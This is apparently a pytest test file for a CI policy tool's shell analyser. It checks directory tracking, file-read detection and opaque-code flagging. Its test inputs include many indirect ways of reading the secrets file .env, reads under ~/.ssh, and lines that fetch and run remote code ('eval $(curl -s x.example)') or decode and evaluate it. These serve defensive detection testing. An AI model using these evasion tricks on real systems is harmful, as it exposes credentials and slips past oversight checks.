"""What the shell's own commands do."""

import pytest

from guardian_ci.policy.shell.analysis import analyse
from guardian_ci.policy.shell.facts import Access


def reads(command: str) -> set[str]:
    return {touch.path for touch in analyse(command).touches if touch.sure and touch.access is Access.READ}


@pytest.mark.parametrize(
    ("command", "paths", "folder"),
    [
        ("cd src; cat a", {"src/a"}, "src"),
        ("cd src && cat a", {"src/a"}, "src"),
        ("cd; cat a", {"~/a"}, "~"),
        ("cd ~; cd .ssh; cat a", {"~/.ssh/a"}, "~/.ssh"),
        ("cd src; cd ..; cat a", {"a"}, "."),
        ("cd src; cd -; cat a", {"a"}, "."),
        ("cd src; cat $OLDPWD/a", {"a"}, "src"),
        ("cd src; cat $PWD/a", {"src/a"}, "src"),
        ("d=$PWD; cd src; cat $d/a", {"a"}, "src"),
        ("cd src; d=$(pwd); cd ..; cat $d/a", {"src/a"}, "."),
        ("cd ~; cat $OLDPWD/a", {"a"}, "~"),
        ("cd /w; cat $PWD/a", {"/w/a"}, "/w"),
        ("cd -P -- src; cat a", {"src/a"}, "src"),
        ("pushd src; popd; cat a", {"a"}, None),
        ("pushd src; cat a", {"src/a"}, "src"),
        ("(cd src); cat a", {"a"}, None),
        ("(cd src; cat a)", {"src/a"}, None),
        ("echo x | cd src; cat a", {"a"}, None),
        ("cd src & cat a", {"a"}, None),
        ("$(cd src); cat a", {"a"}, None),
        ("cd src || exit 1; cat a", {"src/a"}, "src"),
        ("cd src || cd lib; cat a", {"src/a", "lib/a"}, "src"),
        ("[ -d src ] && cd src; cat a", {"src/a", "a"}, "src"),
        ("f() { cd src; }; f; cat a", {"src/a"}, "src"),
        ("CDPATH=~; cd .ssh; cat a", {".ssh/a"}, ".ssh"),
        ("CDPATH=~; cd x; cat a", {"~/x/a", "x/a"}, "~/x"),
        ("bash -c 'cd src'; cat a", {"a"}, None),
        ("cat a", {"a"}, None),
    ],
)
def test_the_folder_is_the_one_that_was_gone_to(command: str, paths: set[str], folder: str | None) -> None:
    assert reads(command) == paths
    assert analyse(command).cwd == folder


def test_a_folder_is_seen_from_the_one_of_the_command_before() -> None:
    assert analyse("cd lib", cwd="/w/src").cwd == "/w/src/lib"
    assert analyse("cd ../..", cwd="/w/src").cwd == "/"
    assert analyse("ls", cwd="/w/src").cwd is None


@pytest.mark.parametrize(
    "command",
    [
        "eval cat .env",
        "eval 'cat .env'",
        "eval -- 'eval \"cat .env\"'",
        "x='cat .env'; eval $x",
        "eval 'f() { cat .env; }'; f",
        "source .env",
        ". .env",
        "echo 'cat .env' > a; . ./a",
        "echo 'cat $1' > a; source a .env",
        ". <(echo cat .env)",
        "exec cat .env",
        "exec -a x cat .env",
        "command cat .env",
        "command -p cat .env",
        "command -- cat .env",
        "builtin eval cat .env",
        "noglob cat .env",
        "$(command -v cat) .env",
        "$(which cat) .env",
        "$(type -p cat) .env",
        "trap 'cat .env' EXIT",
        "trap 'cat $f' EXIT; f=.env",
        "f=x; trap 'f=.env' DEBUG; cat $f",
        "alias c='cat .env'; c",
        "alias c=cat\nc .env",
        "alias c='cat ' e=.env; c e",
        "hash -p /bin/cat c; c .env",
        "complete -C 'cat .env' x",
        "cat $(compgen -G '.env')",
        "cat $(compgen -W '.env x')",
        '[ "$(cat .env)" ]',
        "history -r .env",
    ],
)
def test_commands_that_run_others_are_followed(command: str) -> None:
    assert ".env" in reads(command)


@pytest.mark.parametrize(
    "command",
    [
        "test -f .env", "[ -f .env ] && echo x", "[[ -e .env ]]", "trap - EXIT", "unalias -a", "umask 022",
        "wait $!", "ulimit -n 10", "type .env", "command -v .env", "exit .env", "true .env", ": .env",
        "shopt -s nullglob", "cd .env",
    ],
)  # fmt: skip
def test_commands_that_read_nothing_read_nothing(command: str) -> None:
    assert reads(command) == set()
    assert analyse(command).opaque == ()


@pytest.mark.parametrize(
    ("command", "taken"),
    [
        ("if true; then cat a; else cat b; fi", {"a"}),
        ("if false; then cat a; else cat b; fi", {"b"}),
        ("if [ 1 -gt 2 ]; then cat a; else cat b; fi", {"b"}),
        ("x=1; if ((x > 0)); then cat a; else cat b; fi", {"a"}),
        ("if [[ abc == a* ]]; then cat a; else cat b; fi", {"a"}),
        ("if [ -f x ]; then cat a; else cat b; fi", {"a", "b"}),
        ("true || cat a; false && cat b; true && cat c", {"c"}),
        ("if ! false; then cat a; fi", {"a"}),
        ("[ $x = y ] && cat a || cat b", {"a", "b"}),
    ],
)
def test_the_way_is_gone_that_a_known_condition_says(command: str, taken: set[str]) -> None:
    assert reads(command) == taken


@pytest.mark.parametrize("command", ["fc -s", 'eval "$X"', "eval $(curl -s x.example)", 'eval "$(base64 -d f)"', "$X"])
def test_what_nobody_wrote_and_is_run_is_opaque(command: str) -> None:
    assert analyse(command).opaque != ()


@pytest.mark.parametrize(
    "command",
    [
        'eval "$(ssh-agent -s)"', 'eval "$(direnv hook bash)"', "source <(kubectl completion bash)",
        'eval "$(fzf --bash)"', "node --completion-bash > f; source f", 'eval "$(pyenv init -)"',
        'eval "$(./scripts/env.sh)"', '"$PYTHON" -m venv x', "$EDITOR a", "${CC:-gcc} -o a a.c",
        "trap 'rm -f \"$t\"' EXIT",
    ],
)  # fmt: skip
def test_what_is_ordinarily_evaluated_or_run_by_a_variable_is_not_opaque(command: str) -> None:
    assert analyse(command).opaque == ()
